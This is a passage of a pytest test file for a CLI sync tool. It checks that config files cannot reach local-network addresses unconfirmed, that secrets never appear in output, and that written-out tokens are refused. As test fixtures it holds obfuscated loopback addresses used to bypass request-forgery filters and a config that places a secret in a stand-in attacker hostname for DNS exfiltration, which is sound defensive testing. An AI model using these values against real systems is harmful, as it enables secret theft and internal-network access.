    "runs start": ("runs", "start", "--agent", "a", "--task", "t"),
    "webhook register": ("webhook", "register", "https://hooks.example.com/x"),
    "webhook delete": ("webhook", "delete", "w"),
}


@pytest.mark.parametrize("command", ["sync", "plan", "check"])
@pytest.mark.parametrize(("resource", "more"), [(POSTED, ""), (LIST, QUERIES)])
def test_a_file_posts_to_no_address_of_this_network_unconfirmed(
    resource: str, more: str, command: str, theirs: Recorder
) -> None:
    asks(theirs, resource=resource, more=more)
    done = run(command, "--source", "shop.yaml")
    told = str(done.exception) + done.output
    assert "oa-sync trust shop.yaml" in told
    assert theirs.host in told
    assert isinstance(done.exception, ConfigurationError) or done.exit_code == 2
    assert nothing_arrived(theirs)


@pytest.mark.parametrize("command", CHANGES)
def test_no_command_posts_for_a_file_to_an_address_of_this_network_unconfirmed(
    command: str, theirs: Recorder
) -> None:
    asks(theirs)
    flags = ("--source", "shop.yaml", "--dialect", "cursor")
    if command == "webhook register":
        os.environ.pop("OPENANALYST_WEBHOOK_SECRET")
    assert f"OPENANALYST_BASE_URL={theirs.url}" in refusal(*CHANGES[command], *flags)
    assert nothing_arrived(theirs)


@pytest.mark.parametrize("way", ["trust", "environment", "grant", "grant of all ports"])
def test_a_post_that_the_user_confirmed_is_sent(
    way: str, theirs: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    asks(theirs, resource=POSTED)
    grants: tuple[str, ...] = ()
    match way:
        case "trust":
            told = run("trust", "shop.yaml", "--yes").stdout
            assert f"shop.yaml sends POST requests to {theirs.host}" in told
        case "environment":
            monkeypatch.setenv("OPENANALYST_BASE_URL", f"{theirs.url}/v2")
        case "grant":
            grants = (f"ANY@{theirs.host}",)
        case _:
            grants = ("ANY@127.0.0.1",)
    synced(*grants)
    assert theirs.got("POST /items")


def test_a_confirmed_file_posts_nowhere_else_and_sends_nothing_more(
    theirs: Recorder, ours: Recorder
) -> None:
    asks(ours)
    run("trust", "shop.yaml", "--yes")
    synced()
    asks(ours, resource=POSTED)
    with pytest.raises(ConfigurationError, match="POST"):
        synced()
    assert not ours.got("POST"), "that it may be asked by GET says nothing of POST"
    run("trust", "shop.yaml", "--yes")
    asks(theirs, resource=POSTED)
    with pytest.raises(ConfigurationError, match="POST"):
        synced()
    assert nothing_arrived(theirs)


def test_a_folder_confirms_no_post(theirs: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither by the host that it names, nor with a key of its own."""
    monkeypatch.delenv("OPENANALYST_API_KEY")
    asks(theirs, resource=POSTED)
    configured(base_url=theirs.url, api_key="oa_test_of_the_folder")
    with pytest.raises(ConfigurationError, match="oa-sync trust"):
        synced()
    written(f"resources: [{POSTED}]")
    with pytest.raises(ConfigurationError, match="oa-sync trust"):
        synced()
    assert nothing_arrived(theirs)


@pytest.mark.parametrize("name", ["127.1", "2130706433", "0x7f.1", "localhost"])
def test_a_name_of_an_address_of_this_network_is_found_out(name: str) -> None:
    with listening() as server:
        at = f"https://{name}:{server.server_address[1]}"
        written(f"client: {{base_url: '{at}'}}\nresources: [{POSTED}]")
        with pytest.raises(ConfigurationError, match="oa-sync trust"):
            synced()
        assert calls(server) == 0


def test_a_host_is_not_looked_up_before_all_that_is_in_it_was_granted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Who asks a name server tells it the name."""
    asked: list[object] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *rest, **more: asked.append(host) or [])
    written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{POSTED}]")
    for command in (("sync", "--source"), ("trust",), ("validate",), ("resources", "--source")):
        run(*command, "shop.yaml")
    assert asked == []


# -- secrets in the file itself --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "client",
    [
        ", auth: {token: abc}",
        ", headers: {X-Auth-Key: abc}",
        ", headers: {Ocp-Apim-Subscription-Key: abc}",
        ", headers: {X-Note: 'ghp_0123456789abcdefghij0123456789abcdef'}",
        ", headers: {X-Note: 'AKIAABCDEFGHIJKLMNOP'}",
        ", headers: {X-Note: 'see eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abcdefghijk'}",
    ],
)
def test_a_secret_that_is_written_out_is_refused(client: str, theirs: Recorder) -> None:
    asks(theirs, client=client)
    assert "written out in the file" in refusal("validate", "shop.yaml")


def test_no_report_shows_a_secret_that_the_server_put_into_keys_and_names(ours: Recorder) -> None:
    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: single_page")
    rows: list[dict[str, Any]] = [{"id": TOKEN, "v": "\ud800"}, {"id": {"a": TOKEN}}]
    ours.answer = lambda request: (200, {}, {"data": rows})
    arguments = ("sync", "--source", "shop.yaml", "--env", "SHOP_TOKEN", "--rpm", "0")
    run(*arguments)
    rows[0] |= {TOKEN: 1, "w": 2}
    report = sync(resolve({"source": "shop.yaml", "allow_env": ("SHOP_TOKEN",), "rpm": 0}))
    told = [warned.code for _, warned in report.warnings()]
    assert "replaced" in told, "the test shows a warning that names the key"
    assert report.drift, "and a column"
    assert report.tallies["items"].set_aside, "and a row that is set aside"
    shown = [json.dumps(report.as_json()), *(warned.message for _, warned in report.warnings())]
    rows[0] |= {f"{TOKEN}x": 1, "v": "again\ud800"}
    forms = ((), ("--json",), ("--log-format", "json"))
    shown += [run(*arguments, *more).output for more in forms]
    shown += [run("status", *more).output for more in forms[:2]]
    assert [text for text in shown if TOKEN in text] == []


@pytest.mark.parametrize("command", ["sync", "query"])
def test_no_report_shows_a_secret_that_became_the_name_of_a_column(
    command: str, ours: Recorder
) -> None:
    """A server that tells a key as the name of a field; columns have their names in small letters."""
    odd, column = "Shop-T0ken/45Ab", "shop_t0ken_45_ab"
    os.environ["SHOP_TOKEN"] = odd
    os.environ["OPENANALYST_BASE_URL"] = ours.url
    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: single_page")
    rows: list[dict[str, Any]] = [{"id": 1}]
    ours.answer = lambda request: (200, {}, {"data": rows, "status": "completed"})
    words = {"sync": ("sync",), "query": ("query", "ds_1", "SELECT 1", "--table", "t")}[command]
    flags = ("--source", "shop.yaml", "--env", "SHOP_TOKEN", "--rpm", "0", "--dialect", "page")
    shown = [run(*words, *flags).output]
    for number, form in enumerate(((), ("--json",), ("--log-format", "json"))):
        rows[0] |= {f"{odd}{'x' * number}": 1}
        shown.append(run(*words, *flags, *form).output)
    assert "schema: " in shown[1], "the column is told"
    assert [text for text in shown if column in text or odd in text] == []


def test_no_way_out_shows_what_is_hidden(capfd: pytest.CaptureFixture[str]) -> None:
    hide([STOLEN])
    error = RuntimeError(STOLEN)
    printing.say(STOLEN)
    printing.say_lines(f"a\n{STOLEN}")
    printing.say_cells(STOLEN, STOLEN)
    printing.say_json({STOLEN: (STOLEN, [STOLEN])})
    printing.say_usage(click.UsageError(STOLEN))
    printing.tell_crash(RuntimeError, error, None)
    printing.screen().print(printing.cell(STOLEN))
    shown = "".join(capfd.readouterr())
    assert shown.count("***") == 10
    assert STOLEN not in shown
